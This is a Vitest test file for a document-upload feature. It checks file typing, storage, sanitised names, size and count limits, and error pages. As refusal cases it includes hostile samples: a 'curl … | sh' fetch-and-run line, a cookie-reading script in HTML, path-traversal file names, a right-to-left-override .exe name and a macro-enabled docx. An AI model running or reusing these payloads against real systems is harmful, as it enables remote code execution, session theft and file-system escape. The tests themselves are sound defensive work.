import { createHash } from 'node:crypto'
import { existsSync } from 'node:fs'
import { readFile, rm } from 'node:fs/promises'
import path from 'node:path'
import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { auditEvents, practiceEvents } from '../src/db/schema/index.js'
import { createTestApp, texts, type TestApp } from './support/app.js'
import type { TestClient } from './support/client.js'
import { aPractice } from './support/factories.js'
import {
  minimalDocx,
  minimalJpeg,
  minimalOdt,
  minimalPdf,
  minimalPng,
  minimalPptx,
  minimalXlsx,
  zipOf,
} from './support/files.js'
import { attachmentRows, filesOnDisk, upload } from './support/uploads.js'
import { aUser, signedIn } from './support/users.js'

let t: TestApp
let owner: { id: number; email: string }
let client: TestClient
let practiceId: number

beforeAll(async () => {
  t = await createTestApp()
  owner = await aUser(t.db, { email: 'owner@example.org' })
  client = await signedIn(t.app, owner.email)
})

afterAll(async () => {
  await t?.close()
})

beforeEach(async () => {
  // Each test starts with an empty store, so "nothing stored" can be checked on the disk itself.
  await rm(path.join(t.config.dataDir, 'files'), { recursive: true, force: true })
  practiceId = (await aPractice(t.db, { status: 'draft', visibility: 'internal', submittedByUserId: owner.id })).id
})

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')

/** The page says why, at the top and beside the field, and nothing was kept. */
async function expectRefused(result: Awaited<ReturnType<typeof upload>>, field: string, message: string) {
  expect(result.status).toBe(400)
  expect(result.$('title').text()).toMatch(/^Error: Attachments/)
  expect(texts(result.$, '.govuk-error-summary__list a')).toContain(message)
  expect(result.$(`.govuk-error-summary__list a[href="#${field}"]`).text().trim()).toBe(message)
  expect(result.$(`#${field}-error`).text()).toContain(message)
  expect(await attachmentRows(t.db, practiceId)).toEqual([])
  expect(await filesOnDisk(t.config.dataDir)).toEqual([])
}

describe('uploading attachments', () => {
  const allowed: [string, () => Buffer, string, string][] = [
    ['PDF', minimalPdf, 'application/pdf', 'pdf'],
    ['DOCX', minimalDocx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'docx'],
    ['XLSX', minimalXlsx, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
    ['PPTX', minimalPptx, 'application/vnd.openxmlformats-officedocument.presentationml.presentation', 'pptx'],
    ['ODT', minimalOdt, 'application/vnd.oasis.opendocument.text', 'odt'],
    ['PNG', minimalPng, 'image/png', 'png'],
    ['JPEG', minimalJpeg, 'image/jpeg', 'jpg'],
  ]

  it.each(allowed)(
    'keeps a %s, typed by its content, under a random key with its SHA-256',
    async (_, build, type, ext) => {
      const content = build()
      const result = await upload(t.app, client, practiceId, {
        kind: 'evaluation-report',
        file: { filename: `Our report.${ext}`, content, type: 'application/octet-stream' },
      })
      expect(result.status).toBe(302)
      expect(result.response.headers.location).toBe(`/submissions/${practiceId}/attachments`)

      const [row] = await attachmentRows(t.db, practiceId)
      expect(row).toMatchObject({
        mediaType: type,
        extension: ext,
        displayName: `Our report.${ext}`,
        sizeBytes: content.length,
        sha256: sha256(content),
        kind: 'evaluation-report',
        uploadedByUserId: owner.id,
      })
      expect(row?.storageKey).toMatch(/^[a-f0-9]{48}$/)
      const stored = path.join(t.config.dataDir, 'files', row?.storageKey.slice(0, 2) ?? '', row?.storageKey ?? '')
      expect(await readFile(stored)).toEqual(content)

      const page = await client.get(`/submissions/${practiceId}/attachments`)
      expect(page.$('[data-qa=flash]').text()).toContain(`Our report.${ext} has been added`)
      expect(texts(page.$, '[data-qa=attachment-name]')).toEqual([`Our report.${ext}`])
      expect(texts(page.$, '[data-qa=attachment-kind]')).toEqual(['Evaluation report'])

      const events = await t.db.select().from(practiceEvents).where(eq(practiceEvents.practiceId, practiceId))
      expect(events.map((e) => [e.kind, e.body])).toEqual([['attachment-added', `Our report.${ext}`]])
      const audit = await t.db.select().from(auditEvents).where(eq(auditEvents.action, 'attachment-added'))
      expect(audit.at(-1)?.details).toMatchObject({ practiceId, attachmentId: row?.id, sha256: sha256(content) })
    },
  )

  it('names the file by what it is: a PDF called .exe is shown as .pdf', async () => {
    await upload(t.app, client, practiceId, {
      kind: 'guidance',
      file: { filename: 'guidance\u202egpj.exe', content: minimalPdf() },
    })
    const [row] = await attachmentRows(t.db, practiceId)
    expect(row?.displayName).toBe('guidancegpj.pdf')
  })

  it.each([
    ['../../etc/passwd.pdf', 'passwd.pdf'],
    ['..\\..\\x.pdf', 'x.pdf'],
    ['C:\\Users\\casey\\Documents\\report.pdf', 'report.pdf'],
    ['/tmp/.hidden.pdf', 'hidden.pdf'],
    [`${'a'.repeat(300)}.pdf`, `${'a'.repeat(100)}.pdf`],
  ])('keeps only a safe name from %s, and writes nowhere but the store', async (filename, shown) => {
    const result = await upload(t.app, client, practiceId, { kind: 'other', file: { filename, content: minimalPdf() } })
    expect(result.status).toBe(302)
    const [row] = await attachmentRows(t.db, practiceId)
    expect(row?.displayName).toBe(shown)
    const onDisk = await filesOnDisk(t.config.dataDir)
    expect(onDisk).toEqual([
      path.join(t.config.dataDir, 'files', row?.storageKey.slice(0, 2) ?? '', row?.storageKey ?? ''),
    ])
    expect(existsSync(path.join(t.config.dataDir, 'etc', 'passwd.pdf'))).toBe(false)
    expect(existsSync(path.resolve(t.config.dataDir, 'files', '..', '..', 'x.pdf'))).toBe(false)
  })
})

describe('refusing attachments, with nothing stored', () => {
  const wrongType =
    'The selected file must be a PDF, Word document (DOCX), Excel spreadsheet (XLSX), PowerPoint (PPTX), OpenDocument text (ODT), PNG or JPEG'

  it('refuses a web page renamed .pdf', async () => {
    const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>')
    const result = await upload(t.app, client, practiceId, {
      kind: 'other',
      file: { filename: 'report.pdf', content: html, type: 'application/pdf' },
    })
    await expectRefused(result, 'file', wrongType)
  })

  it('refuses a script renamed .pdf', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://example.invalid/x | sh\n')
    const result = await upload(t.app, client, practiceId, {
      kind: 'other',
      file: { filename: 'report.pdf', content: script, type: 'application/pdf' },
    })
    await expectRefused(result, 'file', wrongType)
  })

  it('refuses a zip that is not an office document, and a macro-enabled Word file', async () => {
    const zip = zipOf([['notes.txt', 'hello']])
    await expectRefused(
      await upload(t.app, client, practiceId, { kind: 'other', file: { filename: 'notes.docx', content: zip } }),
      'file',
      wrongType,
    )
    const docm = zipOf([
      [
        '[Content_Types].xml',
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      ],
      ['word/document.xml', '<w:document/>'],
    ])
    await expectRefused(
      await upload(t.app, client, practiceId, { kind: 'other', file: { filename: 'macro.docx', content: docm } }),
      'file',
      wrongType,
    )
  })

  it('refuses a file larger than 20MB', async () => {
    const big = Buffer.concat([minimalPdf(), Buffer.alloc(20 * 1024 * 1024 + 1 - minimalPdf().length, 0x20)])
    const result = await upload(t.app, client, practiceId, {
      kind: 'other',
      file: { filename: 'big.pdf', content: big },
    })
    await expectRefused(result, 'file', 'The selected file must be smaller than 20MB')
  })

  it('accepts a file of exactly 20MB', async () => {
    const pdf = minimalPdf()
    const exact = Buffer.concat([pdf, Buffer.alloc(20 * 1024 * 1024 - pdf.length, 0x20)])
    const result = await upload(t.app, client, practiceId, {
      kind: 'other',
      file: { filename: 'exact.pdf', content: exact },
    })
    expect(result.status).toBe(302)
    expect((await attachmentRows(t.db, practiceId))[0]?.sizeBytes).toBe(20 * 1024 * 1024)
  })

  it('refuses an empty file', async () => {
    const result = await upload(t.app, client, practiceId, {
      kind: 'other',
      file: { filename: 'empty.pdf', content: Buffer.alloc(0) },
    })
    await expectRefused(result, 'file', 'The selected file is empty')
  })

  it('asks for a file when none was chosen, and keeps the kind chosen', async () => {
    const result = await upload(t.app, client, practiceId, { kind: 'guidance' })
    await expectRefused(result, 'file', 'Select a file to upload')
    expect(result.$('#kind option:checked').val()).toBe('guidance')
  })

  it('asks for a file when the form has no file part at all', async () => {
    const result = await upload(t.app, client, practiceId, { kind: 'guidance', file: null })
    await expectRefused(result, 'file', 'Select a file to upload')
  })

  it('asks what the file is, and stores nothing until it is said', async () => {
    const result = await upload(t.app, client, practiceId, { file: { filename: 'a.pdf', content: minimalPdf() } })
    await expectRefused(result, 'kind', 'Select what the file is')
    const unknown = await upload(t.app, client, practiceId, {
      kind: 'malware',
      file: { filename: 'a.pdf', content: minimalPdf() },
    })
    await expectRefused(unknown, 'kind', 'Select what the file is')
  })

  it('refuses two files in one request', async () => {
    const result = await upload(t.app, client, practiceId, {
      kind: 'other',
      file: { filename: 'a.pdf', content: minimalPdf() },
      extraFiles: [{ filename: 'b.pdf', content: minimalPdf() }],
    })
    await expectRefused(result, 'file', 'Select one file at a time')
  })

  it('refuses an eleventh file', async () => {
    for (let n = 1; n <= 10; n += 1) {
      const result = await upload(t.app, client, practiceId, {
        kind: 'other',
        file: { filename: `file ${n}.png`, content: minimalPng() },
      })
      expect(result.status).toBe(302)
    }
    const before = await filesOnDisk(t.config.dataDir)
    expect(before).toHaveLength(10)
    const page = await client.get(`/submissions/${practiceId}/attachments`)
    expect(page.$('[data-qa=upload-form]').length).toBe(0)
    expect(page.$('[data-qa=full]').text()).toContain('You have added 10 files')

    const result = await upload(t.app, client, practiceId, {
      kind: 'other',
      file: { filename: 'eleventh.pdf', content: minimalPdf() },
    })
    expect(result.status).toBe(400)
    const message = 'You can add up to 10 files. Remove a file before you add another'
    expect(texts(result.$, '.govuk-error-summary__list a')).toEqual([message])
    expect(result.$('#file').text()).toContain(message)
    expect(await attachmentRows(t.db, practiceId)).toHaveLength(10)
    expect((await filesOnDisk(t.config.dataDir)).sort()).toEqual(before.sort())
  })

  it('answers a form sent without multipart encoding with the page and its errors', async () => {
    const result = await client.submit(`/submissions/${practiceId}/attachments`, { kind: 'other' })
    expect(result.status).toBe(400)
    expect(texts(result.$, '.govuk-error-summary__list a')).toEqual([
      'Select what the file is',
      'Select a file to upload',
    ])
    expect(await attachmentRows(t.db, practiceId)).toEqual([])
  })
})
